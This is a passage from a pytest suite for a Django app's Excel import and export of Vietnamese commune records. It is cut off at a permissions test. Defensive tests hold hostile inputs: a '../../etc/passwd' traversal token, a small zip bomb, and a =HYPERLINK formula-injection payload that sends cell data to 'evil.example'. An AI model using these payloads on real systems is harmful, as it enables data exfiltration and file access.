"""Commune attributes in Excel: upload → preview → confirm, the template, exports, and the admin import.

Every workbook is built with openpyxl here, goes through the real views, and the tests assert on what was (and
was not) written to the database. The administrator's client picks English with the language switch's
cookie, so that assertions on messages do not depend on the Vietnamese catalogue; column names and values
are Vietnamese anyway.
"""

import datetime
import io
import unicodedata
import zipfile

import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from communes.models import BorderCountry, Commune, CommuneKind, Coverage
from rollout.core.figures_cache import figures_changed
from rollout.core.spreadsheets import XLSX_CONTENT_TYPE
from tests.builders.spreadsheets import xlsx as spreadsheet

IMPORT_URL = "/communes/import/"
ADMIN_IMPORT_URL = "/admin/communes/commune/import/"
ADMIN_PROCESS_URL = "/admin/communes/commune/process_import/"

HEADERS = [
    "Mã xã",
    "Tên đơn vị",
    "Loại",
    "Mã huyện",
    "Huyện",
    "Trọng điểm ANTT",
    "Biên giới",
    "Nước giáp biên",
    "Dân số",
    "Định biên",
    "Có CA chính quy từ ngày",
    "Tình trạng bố trí",
]

# Kon Tum codes used below (demo baseline: key, border and baseline flags as in communes/demo.py).
DAK_GLEI = 610
NGOC_HOI = 611
TT_DAK_GLEI = 23341  # Thị trấn Đắk Glei: township, covered since 01/07/2019
DAK_BLO = 23344  # Xã Đắk Blô: border (Laos), key area, covered since 01/01/2020
DAK_NHOONG = 23350  # Xã Đắk Nhoong: border (Laos), key area, covered
DAK_MAN = 23347  # Xã Đắk Man: uncovered
DAK_PEK = 23353  # Xã Đắk Pék: uncovered
DAK_CHOONG = 23356  # Xã Đắk Choong: uncovered
XOP = 23359  # Xã Xốp: uncovered
MUONG_HOONG = 23362  # Xã Mường Hoong: uncovered
NGOC_LINH = 23365  # Xã Ngọc Linh: uncovered


# --- helpers -------------------------------------------------------------------------------------------


def xlsx(headers, rows, **options) -> bytes:
    return spreadsheet(headers, rows, title="Xã", **options)


def upload(content: bytes, name: str = "xa.xlsx", content_type: str = XLSX_CONTENT_TYPE) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def row_for(code: int, **changes) -> list:
    """The commune's current values as an import row (what an export would show), with ``changes`` by
    column name."""
    commune = Commune.objects.select_related("district").get(code=code)
    with translation.override("vi"):
        values = _row_values(commune)
    unknown = set(changes) - set(values)
    assert not unknown, unknown
    values.update(changes)
    return [values[h] for h in HEADERS]


def _row_values(commune) -> dict:
    return {
        "Mã xã": commune.code,
        "Tên đơn vị": commune.name,
        "Loại": str(commune.get_kind_display()),
        "Mã huyện": commune.district_id,
        "Huyện": commune.district.name,
        "Trọng điểm ANTT": "Có" if commune.is_key_area else "Không",
        "Biên giới": "Có" if commune.is_border else "Không",
        "Nước giáp biên": str(commune.get_border_country_display()) if commune.border_country else None,
        "Dân số": commune.population,
        "Định biên": commune.staffing_norm,
        "Có CA chính quy từ ngày": commune.baseline_covered_on,
        "Tình trạng bố trí": str(commune.get_coverage_display()),
    }


def db_state() -> list[dict]:
    """Every commune with every column, ``updated_at`` included: any write shows up."""
    return list(Commune.objects.order_by("code").values())


def stored_uploads(settings) -> list:
    folder = settings.MEDIA_ROOT / "imports"
    return sorted(folder.iterdir()) if folder.exists() else []


def preview(client, content: bytes, name: str = "xa.xlsx", **extra):
    return client.post(reverse("communes:commune_import"), {"file": upload(content, name)}, **extra)


def confirm(client, token: str):
    return client.post(reverse("communes:commune_import"), {"token": token})


def statuses(response) -> dict[int, str]:
    return {row.number: row.status for row in response.context["report"].rows}


def errors_by_row(response) -> dict[int, list[tuple[str, object, str]]]:
    return {
        row.number: [(e.column, e.value, e.message) for e in row.errors]
        for row in response.context["report"].rows
        if row.errors
    }


def messages_of(response) -> list[str]:
    return [str(m) for m in response.context["messages"]] if response.context else []


def file_error(response):
    """The one error shown under the file field, as (code, text)."""
    errors = response.context["form"].errors.as_data()["file"]
    assert len(errors) == 1, errors
    return errors[0].code, " ".join(errors[0].messages)


def sheet_rows(content: bytes) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(content))
    return list(workbook.worksheets[0].iter_rows(values_only=True))


def in_english(client):
    client.cookies[django_settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


@pytest.fixture
def administrator(client_as):
    return in_english(client_as("administrator"))


# --- a good file ---------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_good_file_previews_every_row_then_confirm_writes_and_recomputes_coverage(
    demo_baseline, administrator, settings, django_capture_on_commit_callbacks
):
    assert Commune.objects.filter(coverage=Coverage.UNCOVERED).count() == 54
    assert Commune.objects.get(code=DAK_MAN).coverage == Coverage.UNCOVERED
    content = xlsx(
        HEADERS,
        [
            # An uncovered commune gets regular police since 15/03/2021 (text date) and a population.
            row_for(DAK_MAN, **{"Có CA chính quy từ ngày": "15/03/2021", "Dân số": 3500}),
            # Exactly as in the database: unchanged.
            row_for(DAK_PEK),
            # A real date cell, a staffing norm written as text, key area set with "x".
            row_for(
                DAK_CHOONG,
                **{
                    "Có CA chính quy từ ngày": datetime.datetime(2022, 6, 1),
                    "Định biên": "7",
                    "Trọng điểm ANTT": "x",
                },
            ),
            # A border commune: the country written as its Vietnamese label, population with a thousands dot.
            row_for(DAK_BLO, **{"Nước giáp biên": "Lào", "Dân số": "4.321"}),
        ],
    )
    before = db_state()

    response = preview(administrator, content)

    assert response.status_code == 200
    assert statuses(response) == {2: "changed", 3: "unchanged", 4: "changed", 5: "changed"}
    report = response.context["report"]
    assert report.ok
    assert report.totals == {"new": 0, "changed": 3, "unchanged": 1, "error": 0}
    changes = {row.number: {c[0]: (c[1], c[2]) for c in row.changes} for row in report.rows}
    assert changes[2] == {"Dân số": (None, 3500), "Có CA chính quy từ ngày": (None, datetime.date(2021, 3, 15))}
    assert changes[3] == {}
    assert changes[4] == {
        "Trọng điểm ANTT": ("Không", "Có"),
        "Định biên": (None, 7),
        "Có CA chính quy từ ngày": (None, datetime.date(2022, 6, 1)),
    }
    assert changes[5] == {"Dân số": (None, 4321)}
    html = response.content.decode()
    assert 'data-testid="import-confirm"' in html
    assert html.count('data-status="changed"') == 3
    assert html.count('data-status="unchanged"') == 1
    assert "Xã Đắk Man" in html
    # The preview wrote nothing.
    assert db_state() == before
    token = response.context["token"]
    assert token and token in html
    assert len(stored_uploads(settings)) == 1

    with django_capture_on_commit_callbacks(execute=True):
        response = confirm(administrator, token)

    assert response.status_code == 302
    assert response["Location"] == reverse("communes:commune_list")
    dak_man = Commune.objects.get(code=DAK_MAN)
    assert dak_man.baseline_covered_on == datetime.date(2021, 3, 15)
    assert dak_man.population == 3500
    assert dak_man.coverage == Coverage.BASELINE
    assert dak_man.is_demo is False
    dak_choong = Commune.objects.get(code=DAK_CHOONG)
    assert (dak_choong.is_key_area, dak_choong.staffing_norm, dak_choong.baseline_covered_on) == (
        True,
        7,
        datetime.date(2022, 6, 1),
    )
    assert dak_choong.coverage == Coverage.BASELINE
    dak_blo = Commune.objects.get(code=DAK_BLO)
    assert (dak_blo.population, dak_blo.border_country, dak_blo.is_demo) == (4321, BorderCountry.LAOS, False)
    # The unchanged row and every commune not in the file are untouched (still demo data).
    after = {row["code"]: row for row in db_state()}
    for row in before:
        if row["code"] not in (DAK_MAN, DAK_CHOONG, DAK_BLO):
            assert after[row["code"]] == row
    assert Commune.objects.get(code=DAK_PEK).is_demo is True
    assert Commune.objects.filter(coverage=Coverage.UNCOVERED).count() == 52
    # The stored upload is gone, and the same token cannot be used twice.
    assert stored_uploads(settings) == []
    follow = administrator.get(response["Location"])
    assert any("Import finished: 0 new, 3 changed, 1 unchanged." in m for m in messages_of(follow))
    written = db_state()
    again = confirm(administrator, token)
    assert again.status_code == 302
    assert again["Location"] == reverse("communes:commune_import")
    assert db_state() == written


@pytest.mark.django_db
def test_the_preview_speaks_vietnamese_by_default(demo_baseline, client_as):
    client = client_as("administrator")
    content = xlsx(
        HEADERS,
        [row_for(DAK_MAN, **{"Có CA chính quy từ ngày": "15/03/2021", "Dân số": 3500}), row_for(DAK_PEK)],
    )

    response = preview(client, content)

    assert response.status_code == 200
    html = response.content.decode()
    assert '<html lang="vi">' in html
    for text in ("Xem trước", "Thay đổi", "Không đổi", "Xác nhận nhập dữ liệu"):
        assert text in html, text
    # Values in Vietnamese formats: 3.500 and dd/mm/yyyy; an empty value shows as a dash.
    assert "<strong>Dân số</strong>: — → 3.500" in html
    assert "<strong>Có CA chính quy từ ngày</strong>: — → 15/03/2021" in html


@pytest.mark.django_db
def test_a_file_with_only_some_columns_changes_only_those(demo_baseline, administrator):
    """Columns left out of the file are left alone (a blank "Biên giới" would mean "Không", a missing one
    means "keep")."""
    content = xlsx(["Mã xã", "Dân số"], [[DAK_BLO, 1200], [DAK_MAN, "2 500"]])
    before = {row["code"]: row for row in db_state()}

    response = preview(administrator, content)
    assert statuses(response) == {2: "changed", 3: "changed"}
    response = confirm(administrator, response.context["token"])

    assert response.status_code == 302
    dak_blo = Commune.objects.get(code=DAK_BLO)
    assert (dak_blo.population, dak_blo.is_border, dak_blo.border_country, dak_blo.is_key_area) == (
        1200,
        True,
        BorderCountry.LAOS,
        True,
    )
    assert dak_blo.baseline_covered_on == before[DAK_BLO]["baseline_covered_on"]
    assert Commune.objects.get(code=DAK_MAN).population == 2500


@pytest.mark.django_db
def test_clearing_the_baseline_date_uncovers_the_commune(
    demo_baseline, administrator, django_capture_on_commit_callbacks
):
    """``(xóa)`` clears the date (a blank cell would leave it as it is)."""
    assert Commune.objects.get(code=TT_DAK_GLEI).coverage == Coverage.BASELINE
    content = xlsx(HEADERS, [row_for(TT_DAK_GLEI, **{"Có CA chính quy từ ngày": "(xóa)"})])

    response = preview(administrator, content)
    assert statuses(response) == {2: "changed"}
    with django_capture_on_commit_callbacks(execute=True):
        confirm(administrator, response.context["token"])

    commune = Commune.objects.get(code=TT_DAK_GLEI)
    assert commune.baseline_covered_on is None
    assert commune.coverage == Coverage.UNCOVERED
    assert Commune.objects.filter(coverage=Coverage.UNCOVERED).count() == 55


@pytest.mark.django_db
def test_row_numbers_are_the_spreadsheet_rows_even_after_blank_rows(demo_baseline, administrator):
    content = xlsx(
        HEADERS,
        [row_for(DAK_MAN), row_for(DAK_PEK), row_for(XOP, **{"Dân số": "abc"})],
        blank_rows_after=(0,),
    )
    # Rows: 1 headers, 2 Đắk Man, 3 blank, 4 Đắk Pék, 5 Xốp.
    response = preview(administrator, content)

    assert response.status_code == 400
    assert statuses(response) == {2: "unchanged", 4: "unchanged", 5: "error"}
    assert errors_by_row(response)[5][0][:2] == ("Dân số", "abc")


# --- a file with bad rows ------------------------------------------------------------------------------


@pytest.mark.django_db
def test_bad_rows_show_every_error_and_nothing_is_written(demo_baseline, administrator, settings):
    content = xlsx(
        HEADERS,
        [
            row_for(TT_DAK_GLEI, **{"Dân số": 9000}),  # 2: a good row, but the file is refused as a whole
            row_for(DAK_MAN, **{"Mã xã": 99999}),  # 3: unknown commune
            row_for(DAK_MAN, **{"Dân số": "abc"}),  # 4: not a number
            row_for(DAK_PEK, **{"Dân số": -5}),  # 5: negative
            row_for(DAK_CHOONG, **{"Mã huyện": NGOC_HOI}),  # 6: the district does not own the commune
            row_for(XOP, **{"Trọng điểm ANTT": "có lẽ"}),  # 7: not yes/no
            row_for(MUONG_HOONG, **{"Có CA chính quy từ ngày": "31/02/2021"}),  # 8: no such date
            row_for(NGOC_LINH, **{"Nước giáp biên": "Lào"}),  # 9: a country on a non-border commune
            row_for(DAK_BLO, **{"Định biên": 0}),  # 10: staffing norm below one
            row_for(DAK_NHOONG, **{"Nước giáp biên": "Thái Lan"}),  # 11: not a neighbouring country
            row_for(23368, **{"Có CA chính quy từ ngày": "01/01/1900"}),  # 12: date out of range
            row_for(23371, **{"Dân số": 10**12, "Định biên": 40_000}),  # 13: numbers too large, two errors
            row_for(23374, **{"Biên giới": "hmm", "Nước giáp biên": "Lào"}),  # 14: bad yes/no (one error)
        ],
    )
    before = db_state()

    response = preview(administrator, content)

    assert response.status_code == 400
    report = response.context["report"]
    assert not report.ok
    assert response.context["token"] is None
    assert statuses(response) == {
        2: "changed",
        3: "error",
        4: "error",
        5: "error",
        6: "error",
        7: "error",
        8: "error",
        9: "error",
        10: "error",
        11: "error",
        12: "error",
        13: "error",
        14: "error",
    }
    errors = errors_by_row(response)
    assert set(errors) == set(range(3, 15))
    assert [(column, value) for column, value, _ in errors[3]] == [("Mã xã", 99999)]
    assert "99999" in errors[3][0][2]
    assert [(column, value) for column, value, _ in errors[4]] == [("Dân số", "abc")]
    assert "whole number" in errors[4][0][2]
    assert [(column, value) for column, value, _ in errors[5]] == [("Dân số", -5)]
    assert [(column, value) for column, value, _ in errors[6]] == [("Mã huyện", NGOC_HOI)]
    assert str(DAK_GLEI) in errors[6][0][2]
    assert "Huyện Đắk Glei" in errors[6][0][2]
    assert [(column, value) for column, value, _ in errors[7]] == [("Trọng điểm ANTT", "có lẽ")]
    assert "Có" in errors[7][0][2]
    assert [(column, value) for column, value, _ in errors[8]] == [("Có CA chính quy từ ngày", "31/02/2021")]
    assert "dd/mm/yyyy" in errors[8][0][2]
    assert [(column, value) for column, value, _ in errors[9]] == [("Nước giáp biên", "Lào")]
    assert "Biên giới" in errors[9][0][2]
    assert [(column, value) for column, value, _ in errors[10]] == [("Định biên", 0)]
    assert [(column, value) for column, value, _ in errors[11]] == [("Nước giáp biên", "Thái Lan")]
    assert "Lào" in errors[11][0][2]
    assert [(column, value) for column, value, _ in errors[12]] == [("Có CA chính quy từ ngày", "01/01/1900")]
    assert "out of range" in errors[12][0][2]
    assert sorted((column, value) for column, value, _ in errors[13]) == [("Dân số", 10**12), ("Định biên", 40_000)]
    assert [(column, value) for column, value, _ in errors[14]] == [("Biên giới", "hmm")]
    # The page says so: every error with its row, column and value; no confirm button.
    html = response.content.decode()
    assert 'data-testid="import-refused"' in html
    assert 'data-testid="import-confirm"' not in html
    assert "12 rows have errors. Nothing was written" in html
    assert html.count('data-status="error"') == 12
    for needle in (
        "<strong>Mã xã</strong> = “99999”",
        "<strong>Dân số</strong> = “abc”",
        "<strong>Dân số</strong> = “-5”",
        "<strong>Mã huyện</strong> = “611”",
        "<strong>Trọng điểm ANTT</strong> = “có lẽ”",
        "<strong>Có CA chính quy từ ngày</strong> = “31/02/2021”",
        "<strong>Nước giáp biên</strong> = “Lào”",
        "<strong>Định biên</strong> = “0”",
        "<strong>Nước giáp biên</strong> = “Thái Lan”",
        "<strong>Có CA chính quy từ ngày</strong> = “01/01/1900”",
        "<strong>Dân số</strong> = “1000000000000”",
        "<strong>Định biên</strong> = “40000”",
        "<strong>Biên giới</strong> = “hmm”",
    ):
        assert needle in html, needle
    for number in range(3, 15):
        assert f"<td>{number}</td>" in html
    # Nothing written, nothing kept.
    assert db_state() == before
    assert stored_uploads(settings) == []


@pytest.mark.django_db
def test_a_commune_listed_twice_is_an_error(demo_baseline, administrator):
    content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 100}), row_for(DAK_MAN, **{"Dân số": 200})])
    before = db_state()

    response = preview(administrator, content)

    assert response.status_code == 400
    assert statuses(response) == {2: "changed", 3: "error"}
    [(column, value, message)] = errors_by_row(response)[3]
    assert (column, value) == ("Mã xã", DAK_MAN)
    assert "row 2" in message
    assert db_state() == before


@pytest.mark.django_db
def test_a_missing_commune_code_in_a_row_is_an_error(demo_baseline, administrator):
    content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Mã xã": None, "Dân số": 10})])

    response = preview(administrator, content)

    assert response.status_code == 400
    [(column, _value, message)] = errors_by_row(response)[2]
    assert column == "Mã xã"
    assert "missing" in message


@pytest.mark.django_db
def test_values_in_a_column_without_a_header_are_refused(demo_baseline, administrator):
    before = db_state()
    response = preview(administrator, xlsx(["Mã xã", None, "Dân số"], [[DAK_MAN, "ghi chú", 100]]))

    assert response.status_code == 400
    code, text = file_error(response)
    assert code == "headerless_value"
    assert "Row 2" in text
    assert db_state() == before


@pytest.mark.django_db
def test_an_unknown_column_is_refused(demo_baseline, administrator):
    """A misspelt header would otherwise be ignored silently, and the user would believe it imported."""
    before = db_state()
    response = preview(administrator, xlsx(["Mã xã", "Dan so"], [[DAK_MAN, 100]]))

    assert response.status_code == 400
    code, text = file_error(response)
    assert code == "unknown_header"
    assert "Dan so" in text
    assert db_state() == before


@pytest.mark.django_db
def test_confirm_with_a_tampered_or_expired_token_writes_nothing(demo_baseline, administrator, client, users):
    content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 777})])
    response = preview(administrator, content)
    token = response.context["token"]
    before = db_state()

    for bad in ("x" * 32, token[:-1] + ("A" if token[-1] != "A" else "B"), "../../etc/passwd", ""):
        response = confirm(administrator, bad)
        assert response.status_code == 302, bad
        assert response["Location"] == reverse("communes:commune_import")
        follow = administrator.get(response["Location"])
        assert any("expired" in m for m in messages_of(follow)), bad
        assert db_state() == before

    # A new session (signed out and in again) does not know the token any more.
    administrator.logout()
    administrator.force_login(users["administrator"])
    response = confirm(administrator, token)
    assert response.status_code == 302
    assert db_state() == before


@pytest.mark.django_db
def test_a_new_upload_replaces_the_pending_one(demo_baseline, administrator, settings):
    first = preview(administrator, xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 1})])).context["token"]
    second = preview(administrator, xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 2})])).context["token"]
    assert len(stored_uploads(settings)) == 1

    assert confirm(administrator, first)["Location"] == IMPORT_URL
    assert Commune.objects.get(code=DAK_MAN).population is None
    assert confirm(administrator, second)["Location"] == reverse("communes:commune_list")
    assert Commune.objects.get(code=DAK_MAN).population == 2
    assert stored_uploads(settings) == []


@pytest.mark.django_db
def test_confirm_checks_every_row_again_and_writes_nothing_if_one_went_bad(demo_baseline, administrator, settings):
    content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 100}), row_for(DAK_PEK, **{"Dân số": 200})])
    response = preview(administrator, content)
    assert response.context["report"].ok
    # Between preview and confirm, the second commune disappears.
    Commune.objects.filter(code=DAK_PEK).delete()
    before = db_state()

    response = confirm(administrator, response.context["token"])

    assert response.status_code == 400
    assert statuses(response) == {2: "changed", 3: "error"}
    assert errors_by_row(response)[3][0][:2] == ("Mã xã", DAK_PEK)
    assert db_state() == before
    assert Commune.objects.get(code=DAK_MAN).population is None
    assert stored_uploads(settings) == []


# --- files that are not a usable workbook --------------------------------------------------------------


def _broken_zip() -> bytes:
    return b"PK\x03\x04" + b"\x00garbage" * 40


def _zip_without_workbook() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "xin chào")
    return buffer.getvalue()


def _truncated_workbook() -> bytes:
    content = xlsx(HEADERS, [[DAK_MAN]])
    return content[: len(content) // 2]


def _workbook_with_broken_sheet() -> bytes:
    """A well-formed ZIP whose sheet XML is not XML."""
    source = zipfile.ZipFile(io.BytesIO(xlsx(HEADERS, [[DAK_MAN]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = b"<worksheet><sheetData><row><c" + b"\x00" * 10
            archive.writestr(item, data)
    return buffer.getvalue()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "code", "text"),
    [
        ("xa.csv", "Mã xã,Dân số\n23347,100\n".encode(), "extension", "Only Excel workbooks (.xlsx)"),
        ("xa.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "extension", "Only Excel workbooks"),
        ("xa.xlsx", "Mã xã,Dân số\n23347,100\n".encode(), "not_xlsx", "not an Excel workbook"),
        ("xa.xlsx", b"<html><body>hello</body></html>", "not_xlsx", "not an Excel workbook"),
        ("xa.xlsx", _zip_without_workbook(), "not_xlsx", "not an Excel workbook"),
        ("xa.xlsx", _broken_zip(), "bad_zip", "damaged"),
        ("xa.xlsx", _truncated_workbook(), "bad_zip", "damaged"),
        ("xa.xlsx", _workbook_with_broken_sheet(), "bad_xlsx", "damaged"),
        ("xa.xlsx", xlsx(HEADERS, []), "empty", "no data rows"),
        ("xa.xlsx", xlsx([], []), "empty", "no header row"),
        ("xa.xlsx", xlsx(["Dân số", "Định biên"], [[100, 5]]), "missing_header", "Mã xã"),
        ("xa.xlsx", xlsx(["Mã xã", "Dân số", "Dân số"], [[DAK_MAN, 1, 2]]), "duplicate_header", "Dân số"),
        ("XA.XLSX", b"not a zip", "not_xlsx", "not an Excel workbook"),
    ],
    ids=[
        "csv",
        "xls",
        "csv-renamed-xlsx",
        "html-renamed-xlsx",
        "zip-not-workbook",
        "broken-zip",
        "truncated-workbook",
        "broken-sheet-xml",
        "headers-no-rows",
        "no-headers",
        "missing-code-column",
        "duplicate-column",
        "upper-case-extension",
    ],
)
def test_unusable_files_are_refused_with_a_reason(demo_baseline, administrator, settings, name, content, code, text):
    before = db_state()

    response = preview(administrator, content, name)

    assert response.status_code == 400
    error_code, error_text = file_error(response)
    assert error_code == code
    assert text in error_text
    html = response.content.decode()
    assert 'data-testid="file-error"' in html
    assert 'data-testid="import-preview"' not in html
    assert db_state() == before
    assert stored_uploads(settings) == []


@pytest.mark.django_db
def test_an_empty_upload_is_refused(demo_baseline, administrator, settings):
    before = db_state()

    response = preview(administrator, b"")

    assert response.status_code == 400
    assert response.context["form"].errors["file"]
    assert 'data-testid="file-error"' in response.content.decode()
    assert db_state() == before
    assert stored_uploads(settings) == []


@pytest.mark.django_db
def test_a_post_without_a_file_is_refused(demo_baseline, administrator):
    response = administrator.post(reverse("communes:commune_import"), {})

    assert response.status_code == 400
    assert response.context["form"].errors["file"]


@pytest.mark.django_db
def test_a_file_over_the_size_limit_is_refused_before_it_is_read(demo_baseline, administrator, settings):
    content = xlsx(HEADERS, [row_for(code, **{"Dân số": 1}) for code in (DAK_MAN, DAK_PEK, XOP)])
    settings.IMPORT_MAX_UPLOAD_BYTES = len(content) - 1
    before = db_state()

    response = preview(administrator, content)

    assert response.status_code == 400
    code, text = file_error(response)
    assert code == "too_large"
    assert "too large" in text
    assert db_state() == before

    settings.IMPORT_MAX_UPLOAD_BYTES = len(content)
    assert preview(administrator, content).status_code == 200


@pytest.mark.django_db
def test_a_workbook_that_expands_too_much_is_refused(demo_baseline, administrator, settings):
    """A zip bomb in miniature: a few kilobytes that expand well past the limit."""
    filler = "A" * 30_000
    content = xlsx(["Mã xã", "Ghi chú"], [[DAK_MAN, filler] for _ in range(40)])
    assert len(content) < 60_000  # the compressed file is small...
    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 200_000  # ...but it expands past 1 MB
    before = db_state()

    response = preview(administrator, content)

    assert response.status_code == 400
    code, text = file_error(response)
    assert code == "too_large"
    assert "expands" in text
    assert db_state() == before


@pytest.mark.django_db
def test_a_file_with_too_many_rows_is_refused(demo_baseline, administrator, settings):
    settings.IMPORT_MAX_ROWS = 2
    content = xlsx(HEADERS, [row_for(code) for code in (DAK_MAN, DAK_PEK, XOP)])

    response = preview(administrator, content)

    assert response.status_code == 400
    code, text = file_error(response)
    assert code == "too_many_rows"
    assert "2" in text


# --- template and export -------------------------------------------------------------------------------


@pytest.mark.django_db
def test_template_has_the_vietnamese_headers_and_no_rows(demo_baseline, administrator):
    response = administrator.get(reverse("communes:commune_template"))

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert 'filename="mau-nhap-xa.xlsx"' in response["Content-Disposition"]
    rows = sheet_rows(response.content)
    assert rows == [tuple(HEADERS)]
    # The import page links to it.
    page = administrator.get(reverse("communes:commune_import"))
    assert page.status_code == 200
    assert reverse("communes:commune_template") in page.content.decode()


@pytest.mark.django_db
def test_the_filled_in_template_imports(demo_baseline, administrator, django_capture_on_commit_callbacks):
    template = administrator.get(reverse("communes:commune_template")).content
    workbook = load_workbook(io.BytesIO(template))
    sheet = workbook.worksheets[0]
    sheet.append([DAK_MAN, None, None, DAK_GLEI, None, "Có", "Không", None, 1500, 6, "01/01/2024", None])
    buffer = io.BytesIO()
    workbook.save(buffer)

    response = preview(administrator, buffer.getvalue())
    assert statuses(response) == {2: "changed"}
    with django_capture_on_commit_callbacks(execute=True):
        confirm(administrator, response.context["token"])

    commune = Commune.objects.get(code=DAK_MAN)
    assert (commune.is_key_area, commune.population, commune.staffing_norm) == (True, 1500, 6)
    assert commune.coverage == Coverage.BASELINE


@pytest.mark.django_db
def test_export_has_vietnamese_headers_and_every_commune(demo_baseline, administrator):
    response = administrator.get(reverse("communes:commune_export"))

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert "attachment;" in response["Content-Disposition"]
    assert ".xlsx" in response["Content-Disposition"]
    headers, *rows = sheet_rows(response.content)
    assert list(headers) == HEADERS
    assert len(rows) == 102
    by_code = {row[0]: dict(zip(HEADERS, row, strict=True)) for row in rows}
    assert by_code[DAK_BLO]["Tên đơn vị"] == "Xã Đắk Blô"
    with translation.override("vi"):
        labels = {
            "commune": str(CommuneKind.COMMUNE.label),
            "township": str(CommuneKind.TOWNSHIP.label),
            "laos": str(BorderCountry.LAOS.label),
            "uncovered": str(Coverage.UNCOVERED.label),
        }
    assert by_code[DAK_BLO]["Loại"] == labels["commune"]
    assert by_code[DAK_BLO]["Mã huyện"] == DAK_GLEI
    assert by_code[DAK_BLO]["Huyện"] == "Huyện Đắk Glei"
    assert by_code[DAK_BLO]["Biên giới"] == "Có"
    assert by_code[DAK_BLO]["Nước giáp biên"] == labels["laos"]
    assert by_code[DAK_BLO]["Có CA chính quy từ ngày"] == datetime.datetime(2020, 1, 1)
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    date_column = HEADERS.index("Có CA chính quy từ ngày") + 1
    dated = [row[date_column - 1] for row in sheet.iter_rows(min_row=2) if row[date_column - 1].value]
    assert dated
    assert {cell.number_format for cell in dated} == {"DD/MM/YYYY"}
    assert by_code[DAK_MAN]["Trọng điểm ANTT"] == "Không"
    assert by_code[DAK_MAN]["Có CA chính quy từ ngày"] is None
    assert by_code[TT_DAK_GLEI]["Loại"] == labels["township"]
    assert sum(1 for row in by_code.values() if row["Tình trạng bố trí"] == labels["uncovered"]) == 54


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"kind": "ward"}, lambda qs: qs.filter(kind="ward")),
        ({"coverage": "uncovered"}, lambda qs: qs.filter(coverage=Coverage.UNCOVERED)),
        ({"is_border": "yes"}, lambda qs: qs.filter(is_border=True)),
        ({"q": "kon ray"}, lambda qs: qs.filter(district_id=614)),
        ({"district": str(DAK_GLEI)}, lambda qs: qs.filter(district_id=DAK_GLEI)),
        (
            {"district": str(DAK_GLEI), "coverage": "uncovered"},
            lambda qs: qs.filter(district_id=DAK_GLEI, coverage="uncovered"),
        ),
    ],
    ids=["kind", "coverage", "border", "search", "district", "district-and-coverage"],
)
def test_export_respects_the_list_filters(demo_baseline, administrator, query, expected):
    response = administrator.get(reverse("communes:commune_export"), query)

    assert response.status_code == 200
    _headers, *rows = sheet_rows(response.content)
    wanted = set(expected(Commune.objects.all()).values_list("code", flat=True))
    assert wanted
    assert {row[0] for row in rows} == wanted


@pytest.mark.django_db
def test_export_is_limited_to_the_users_area(demo_baseline, client_as):
    client = client_as("district_clerk")

    response = client.get(reverse("communes:commune_export"))

    assert response.status_code == 200
    _headers, *rows = sheet_rows(response.content)
    own = set(Commune.objects.filter(district_id=DAK_GLEI).values_list("code", flat=True))
    assert {row[0] for row in rows} == own
    assert {row[3] for row in rows} == {DAK_GLEI}
    # Asking for another district gives nothing from it.
    response = client.get(reverse("communes:commune_export"), {"district": str(NGOC_HOI)})
    _headers, *rows = sheet_rows(response.content)
    assert not {row[0] for row in rows} - own


@pytest.mark.django_db
def test_export_then_import_unchanged_is_a_no_op(demo_baseline, administrator, django_capture_on_commit_callbacks):
    Commune.objects.filter(code=DAK_MAN).update(population=12345, staffing_norm=4)
    figures_changed(commune_codes=[DAK_MAN])  # written past the services
    exported = administrator.get(reverse("communes:commune_export")).content
    before = db_state()

    response = preview(administrator, exported, "danh-sach-xa.xlsx")

    assert response.status_code == 200
    report = response.context["report"]
    assert report.totals == {"new": 0, "changed": 0, "unchanged": 102, "error": 0}
    assert set(statuses(response)) == set(range(2, 104))
    with django_capture_on_commit_callbacks(execute=True):
        response = confirm(administrator, response.context["token"])
    assert response.status_code == 302
    assert db_state() == before


@pytest.mark.django_db
def test_export_escapes_formulas_and_the_round_trip_still_works(demo_baseline, administrator):
    dangerous = {
        DAK_MAN: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        DAK_PEK: "+1+1",
        DAK_CHOONG: "-2+3",
        XOP: "@SUM(1,2)",
        MUONG_HOONG: "\t=1+1",
    }
    for code, name in dangerous.items():
        Commune.objects.filter(code=code).update(name=name)

    exported = administrator.get(reverse("communes:commune_export")).content

    sheet = load_workbook(io.BytesIO(exported)).worksheets[0]
    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for code, name in dangerous.items():
        cell = names[code]
        assert cell.data_type == "s", name
        assert cell.value == "'" + name
    assert names[DAK_BLO].value == "Xã Đắk Blô"
    # No formula anywhere in the workbook.
    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    # Names are read-only: the escaped export imports back as unchanged.
    before = db_state()
    response = preview(administrator, exported)
    assert response.context["report"].totals["unchanged"] == 102
    assert db_state() == before


# --- permissions ---------------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("role", ["committee", "provincial_clerk", "district_clerk", "no_role"])
